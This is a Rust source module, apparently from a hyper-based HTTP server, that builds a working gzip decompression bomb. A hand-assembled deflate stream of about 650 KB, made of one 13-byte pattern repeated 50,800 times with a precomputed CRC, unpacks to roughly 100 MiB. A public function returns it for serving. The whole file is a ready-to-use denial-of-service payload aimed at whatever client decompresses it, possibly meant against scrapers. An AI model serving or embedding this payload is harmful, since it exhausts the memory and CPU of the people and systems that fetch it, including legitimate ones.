//! A gzip bomb, built from the thirteen bytes that repeat in one.
//!
//! In a deflate block with fixed codes, "copy 258 bytes from one byte back" takes 13 bits, so eight copies take
//! exactly 13 bytes and the stream is a short head, one pattern many times, and a tail.

use std::sync::LazyLock;

use hyper::body::Bytes;

/// Repetitions of the pattern; each unpacks to `8 * 258` bytes.
const REPEATS: u32 = 50_800;

/// Bytes one repetition unpacks to.
const UNPACKED_PER_REPEAT: u32 = 8 * 258;

/// Bytes the bomb unpacks to, about 100 MiB.
const UNPACKED: u32 = 1 + REPEATS * UNPACKED_PER_REPEAT;

const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
const BLOCK_START: u8 = 0x53;
const PATTERN: [u8; 13] = [
    0x18, 0x05, 0xa3, 0x60, 0x14, 0x8c, 0x82, 0x51, 0x30, 0x0a, 0x46, 0xc1, 0x28,
];
const BLOCK_END: [u8; 2] = [0, 0];

/// CRC-32 of [`UNPACKED`] spaces.
const CRC: u32 = 0xc5c7_ad01;

static GZIP: LazyLock<Bytes> = LazyLock::new(|| {
    let mut gzip = HEAD.to_vec();
    gzip.push(BLOCK_START);
    (0..REPEATS).for_each(|_| gzip.extend_from_slice(&PATTERN));
    gzip.extend_from_slice(&BLOCK_END);
    gzip.extend_from_slice(&CRC.to_le_bytes());
    gzip.extend_from_slice(&UNPACKED.to_le_bytes());
    gzip.into()
});

/// The bomb: 650 KB of gzip that unpack to [`UNPACKED`] spaces.
pub fn gzip() -> Bytes {
    GZIP.clone()
}
